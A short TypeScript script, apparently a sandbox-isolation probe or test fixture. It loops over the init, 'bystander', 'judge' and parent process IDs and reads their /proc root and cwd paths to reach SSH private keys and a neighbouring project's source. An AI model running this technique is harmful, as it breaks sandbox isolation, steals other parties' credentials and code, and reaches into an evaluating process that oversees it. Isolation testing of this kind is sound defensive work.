import { targets } from './targets.ts';
import { read } from './tools.ts';

for (const pid of [1, targets.bystander.pid, targets.judge.pid, process.ppid]) {
  read(`/proc/${pid}/root${targets.home}/.ssh/id_ed25519`);
  read(`/proc/${pid}/root${targets.neighbour}/src/main.ts`);
  read(`/proc/${pid}/cwd/.ssh/id_ed25519`);
}
